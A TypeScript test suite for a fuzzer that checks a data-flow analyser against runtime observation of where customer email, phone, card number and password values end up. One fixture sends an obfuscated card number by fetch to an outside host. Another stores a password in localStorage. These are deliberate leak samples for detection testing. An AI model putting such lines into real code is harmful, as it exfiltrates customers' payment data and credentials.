// A small part of the search for faults, in every run of the tests: no program made by chance may be judged differently from what
// happens in it. `npm run fuzz` tries thousands.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { analyse } from './analyse.ts';
import { compareAll } from './compare.ts';
import { generate, moveNames } from './generate.ts';
import { handledKinds } from './kinds.ts';
import { observe } from './oracle.ts';
import { arrivalKey, type Program } from './program.ts';
import { nameOf, search } from './search.ts';

const FROM = 1;
/** Differences that we know the reason of, by a piece of the program that shows it. */
const KNOWN: readonly { readonly shows: RegExp; readonly kind: 'missed' | 'spurious'; readonly why: string }[] = [];
const SEEDS = 60;

const fuzz = suite('fuzz');

const written = (text: string): Program => ({ seed: 0, files: { 'main.ts': text }, main: 'main.ts' });
const HEAD = 'interface Customer { email: string; phone: string; cardNumber: string; password: string }\n';

fuzz('a run tells what arrives, encoded or not, on every way, and what a mask removes', async () => {
  const { arrivals, errors } = await observe(written(`${HEAD}export function run(customer: Customer) {
    console.log('s1', { note: [customer.email] });
    localStorage.setItem('s2', btoa(Math.random() < 0.5 ? customer.phone : customer.password));
    console.log('s3', customer.phone.replace(/./g, '*'), customer.email.length);
    void fetch('http://rates.bank-hua.com.cn/s4?' + encodeURIComponent(customer.cardNumber.split('').reverse().join('-')));
  }`));
  assert.equal(errors, []);
  assert.equal([...arrivals.keys()].sort(), ['s1 email', 's2 password', 's2 phone', 's4 cardNumber']);
});

fuzz('the analyser is asked about the same sinks and fields', () => {
  const [found] = analyse([written(`${HEAD}export function run(customer: Customer) {
    console.log('s1', customer.email, customer.phone);
    console.log('s2', customer.phone.replace(/./g, '*'));
  }`)]);
  assert.equal([...(found?.arrivals.values() ?? [])].map(arrivalKey).sort(), ['s1 email', 's1 phone']);
});

fuzz('the same seed makes the same program', () => {
  for (const seed of [1, 7, 4711]) assert.equal(generate(seed), generate(seed));
});

fuzz('a difference is told', async () => {
  const { differences } = await compareAll([written(`${HEAD}export function run(customer: Customer) {\n  if (Date.now() < 0) console.log('s1', customer.email);\n}`)]);
  assert.equal(differences.map(nameOf), ['seed 0: spurious email at s1']);
});

fuzz(`${SEEDS} programs are judged as they run`, async () => {
  const { tally, crashes, slow } = await search(FROM, SEEDS);
  assert.equal(tally.broken.map(({ program, why }) => `${program.seed}: ${why}`), []);
  assert.equal([crashes, slow], [[], []]);
  assert.ok(tally.flows > 4 * SEEDS, `only ${tally.flows} flows`);
  const unknown = tally.differences.filter(({ kind, program }) => !KNOWN.some((known) => known.kind === kind && Object.values(program.files).some((text) => known.shows.test(text))));
  assert.equal(unknown.map(nameOf), []);
});

fuzz('the kinds of syntax are read off the extractor', () => {
  const kinds = handledKinds();
  for (const kind of ['TemplateExpression', 'YieldExpression', 'Constructor', 'JsxElement', 'MappedType', 'NamespaceExport']) assert.ok(kinds.has(kind), kind);
  assert.ok(moveNames().length > 300);
});

fuzz.run();
